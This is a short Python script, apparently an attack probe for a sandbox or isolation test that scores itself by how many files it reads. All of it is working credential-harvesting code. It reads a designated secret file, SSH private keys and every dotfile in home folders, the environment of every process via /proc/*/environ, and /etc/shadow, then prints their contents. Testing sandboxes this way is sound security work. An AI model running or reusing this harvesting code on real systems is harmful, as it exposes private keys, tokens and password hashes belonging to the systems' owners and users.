"""Read host secrets: a secret file, the home folder and ~/.ssh, every /proc/*/environ (incl. pid 1)."""

import glob
import os

ATTACK: dict = globals()["ATTACK"]
found = []


def grab(path: str) -> None:
    try:
        with open(path, "rb") as fh:
            data = fh.read(1_000_000)
    except OSError:
        return
    found.append(path)
    print("READ", path, data[:20000])


grab(ATTACK["secret_file"])
for base in (ATTACK["home"], os.path.expanduser("~")):
    grab(os.path.join(base, ".ssh", "id_rsa"))
    for path in glob.glob(os.path.join(base, ".*")) + glob.glob(os.path.join(base, ".ssh", "*")):
        if os.path.isfile(path):
            grab(path)
for path in ["/proc/1/environ"] + glob.glob("/proc/[0-9]*/environ"):
    grab(path)
grab("/etc/shadow")
SCORE = float(len(found))
